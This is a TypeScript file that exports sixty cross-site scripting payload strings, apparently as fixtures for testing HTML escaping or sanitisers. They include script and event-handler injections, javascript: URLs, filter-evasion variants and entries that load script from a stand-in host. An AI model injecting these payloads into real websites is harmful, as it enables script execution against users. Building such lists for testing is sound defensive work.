const run = 'alert(1)'

/** Markup that runs a script where a text becomes a part of the document; each fits the shortest field. */
const markup = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script async>${run}</script >`,
  `<script/x>${run}</script>`,
  `<script src=//a.test></script>`,
  `<script src=data:,${run}>`,
  `<scr<script>ipt>${run}//`,
  `<img src=x onerror=${run}>`,
  `<img/src/onerror=${run}>`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror='${run}'>`,
  `<img src=x onerror=\`${run}\`>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script>`,
  `<svg><a href=javascript:${run}>`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video src=x onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<video><source onerror=${run}>`,
  `<object data=javascript:${run}>`,
  `<embed src=javascript:${run}>`,
  `<iframe src=javascript:${run}>`,
  `<iframe srcdoc=<svg/onload=${run}>>`,
  `<iframe onload=${run}>`,
  `<form action=javascript:${run}>`,
  `<math href=javascript:${run}>x`,
  `<a href=javascript:${run}>x</a>`,
  `<a href="java&#9;script:${run}">x`,
  `<a onmouseover=${run}>x</a>`,
  `<marquee onstart=${run}>`,
  `<style onload=${run}></style>`,
  `<link rel=import href=//a.test>`,
  `<meta http-equiv=refresh content=0>`,
  `<base href=//a.test>`,
  `<template><b onclick=${run}>`,
  `<noscript><img onerror=${run}>`,
  `<!--><svg onload=${run}>-->`,
  `<![CDATA[<svg onload=${run}>]]>`,
]

/** Ends of what surrounds a text: attributes, elements, literals. */
const ends = [
  `"onmouseover="${run}`,
  `'onmouseover='${run}`,
  `"><svg onload=${run}>`,
  `'><svg onload=${run}>`,
  `</title><svg onload=${run}>`,
  `</textarea><svg onload=${run}>`,
  `';${run}//`,
  `";${run}//`,
  `\`\${${run}}`,
  `\\u003csvg onload=${run}>`,
  `&lt;svg onload=${run}&gt;`,
  `%3Csvg onload=${run}%3E`,
]

/** Texts of templates and of addresses. */
const others = [`{{${run}}}`, `javascript:${run}`, `data:text/html,<script>${run}</script>`]

/** Sixty texts of attackers. */
export const scriptPayloads: readonly string[] = [...markup, ...ends, ...others]
